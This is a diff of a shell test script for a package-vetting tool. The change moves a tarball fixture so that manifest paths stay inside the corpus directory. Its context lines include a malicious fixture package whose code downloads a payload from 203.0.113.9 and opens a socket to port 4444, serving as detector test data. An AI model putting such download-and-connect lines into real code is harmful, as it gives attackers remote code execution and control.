@@ -176,11 +176,12 @@ urlopen("http://203.0.113.9/payload").read()
 socket.socket().connect(("203.0.113.9", 4444))
 EOF
 cp -R tests/data/demo-1.0 "$TMP/pkgs/demo-1.0"
+cp "$FX/demo.tar.gz" "$TMP/pkgs/demo.tar.gz" # manifest paths stay inside the corpus directory
 M=$TMP/pkgs/manifest.csv
 { echo "id,label,name,version,path,format,source,first_seen,cluster,cluster_size,kind,top_rank,bytes,dropped_files"
   echo "evil,malicious,evil,0.1,evil-0.1,dir,,,,,,,,"
   echo "demo,benign,demo,1.0,demo-1.0,dir,,,,,,,,"
-  echo "demotgz,benign,demo,1.0,../fx/demo.tar.gz,tar.gz,,,,,,,,"
+  echo "demotgz,benign,demo,1.0,demo.tar.gz,tar.gz,,,,,,,,"
 } >"$M"
 "$PYVET" extract --manifest "$M" --out "$TMP/pkgfeat" --quiet $DOM >/dev/null 2>&1
 check "fixture packages extracted" [ "$(wc -l <"$TMP/pkgfeat/features.csv")" -eq 4 ]
